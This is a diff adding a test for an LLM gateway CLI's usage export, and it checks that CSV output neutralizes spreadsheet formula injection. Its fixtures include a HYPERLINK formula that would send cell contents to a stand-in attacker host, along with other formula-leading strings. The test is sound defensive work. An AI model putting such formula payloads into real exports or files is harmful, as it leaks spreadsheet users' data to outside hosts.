@@ -253,6 +253,36 @@ t.test('usage export: CSV and JSON with a time range', async t => {
   t.equal(r.out, USAGE_CSV_COLUMNS.join(',') + '\r\n', 'empty CSV still has its header')
 })
 
+t.test('usage export: client-chosen text that a spreadsheet would run as a formula is neutralized in CSV', async t => {
+  const { args, open } = tmpLedger(t)
+  await cli(args, 'org', 'create', 'acme')
+  const l = await open()
+  const T = Date.parse('2025-03-01T00:00:00Z')
+  const keys = ['=HYPERLINK("http://evil.example/?x="&A1,"ok")', '+1+2', '-2+3', '@SUM(A1:A2)', '\tTAB', '\rCR', 'plain=ok', '']
+  for (const [i, idem] of keys.entries()) {
+    await l.charge(undefined, {
+      time: T + i * 1000, keyId: i === 0 ? '=key' : 'k1', organization: 'acme', project: i === 1 ? '@proj' : 'web', model: 'echo/echo-1', provider: 'echo',
+      traceId: `tr-${i}`, idempotencyKey: idem || undefined, inputTokens: 10, cachedInputTokens: 0, outputTokens: 5, cost: 7, estimated: false,
+    })
+  }
+  const r = await cli(args, 'usage', 'export')
+  t.equal(r.code, 0)
+  const lines = r.out.split('\r\n').slice(1, -1)
+  const idemCell = (line: string) => line.split(',tr-')[1]!.replace(/^\d+,/, '').replace(/,10,0,5,0\.000007,,,,false$/, '')
+  t.equal(idemCell(lines[0]!), `"'=HYPERLINK(""http://evil.example/?x=""&A1,""ok"")"`, 'a leading = gets a quote (and CSV quoting)')
+  t.equal(idemCell(lines[1]!), "'+1+2")
+  t.equal(idemCell(lines[2]!), "'-2+3")
+  t.equal(idemCell(lines[3]!), "'@SUM(A1:A2)")
+  t.equal(idemCell(lines[4]!), "'\tTAB")
+  t.equal(idemCell(lines[5]!), `"'\rCR"`)
+  t.equal(idemCell(lines[6]!), 'plain=ok', 'only a leading character matters')
+  t.equal(idemCell(lines[7]!), '', 'empty stays empty')
+  t.match(lines[0]!, /^2025-03-01T00:00:00\.000Z,'=key,acme,web,/, 'other text columns too')
+  t.match(lines[1]!, /,acme,'@proj,echo\/echo-1,/)
+  const json = JSON.parse((await cli(args, 'usage', 'export', '--format', 'json')).out)
+  t.equal(json[0].idempotencyKey, keys[0], 'JSON keeps the value as it was')
+})
+
 t.test('env selects the ledger: GATEWAY_LEDGER_PATH', async t => {
   const { path, open } = tmpLedger(t)
   let out = ''
